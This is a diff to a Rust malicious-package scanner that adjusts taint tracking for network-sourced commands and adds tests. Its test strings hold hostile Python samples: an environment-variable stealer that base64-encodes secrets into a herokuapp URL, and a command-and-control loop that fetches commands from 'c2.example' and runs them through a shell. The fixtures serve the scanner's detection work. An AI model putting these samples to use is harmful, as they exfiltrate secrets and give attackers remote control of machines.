@@ -35,10 +35,13 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         .iter()
         .chain(call.arguments.keywords.iter().map(|k| &k.value))
         .collect();
-    let mut found: Vec<usize> = arguments
-        .into_iter()
-        .filter_map(|arg| checker.source_in(arg))
-        .collect();
+    // Each argument answers with its strongest source, and with network data that source
+    // outranked: `Popen(reply.split(hostname)[1])` runs what the server sent.
+    let mut found: Vec<usize> = Vec::new();
+    for arg in arguments {
+        found.extend(checker.source_in(arg));
+        found.extend(checker.outranked_remote);
+    }
     found.dedup();
     let context = checker.context();
     // Where it goes: a client sends its token to its vendor, not to a paste site, a tunnel, a
@@ -195,6 +198,22 @@ mod tests {
         // The ctx hijack: every variable's value, base64-encoded into a free app host's URL.
         let code = "import base64, requests\nfrom os import environ\ndef send():\n    s = ''\n    for _, value in environ.items():\n        s += value + ' '\n    m = base64.b64encode(s.encode('ascii')).decode('ascii')\n    requests.get('https://x-y.herokuapp.com/h/' + m)\n";
         assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.6);
+    }
+
+    #[test]
+    fn commands_picked_from_a_reply_by_host_name_run_what_the_server_sent() {
+        // A C2 client: the reply of the module's own request wrapper is split on the host
+        // name, and the host name outranks the reply as a source; the command is still remote.
+        let code = "import platform, subprocess\nfrom urllib import request\nclass Request:\n    def get(self, url):\n        res = request.build_opener().open(url)\n        return res.read()\nhostname = platform.node()\nreq = Request()\nwhile True:\n    reply = req.get('https://c2.example/')\n    command = reply.decode().split(hostname + '::')[1]\n    subprocess.Popen(command, shell=True)\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.8);
+        let flows: Vec<_> = findings("p/pkg/__init__.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
+        assert!(flows.iter().any(|f| f.message.starts_with("response of")));
+        // The host name alone in a command is what tools do.
+        let local = "import platform, subprocess\nsubprocess.run(['ping', platform.node()])\n";
+        assert!(max_severity("p/pkg/__init__.py", local, "WH200") < 0.3);
     }
 
     #[test]
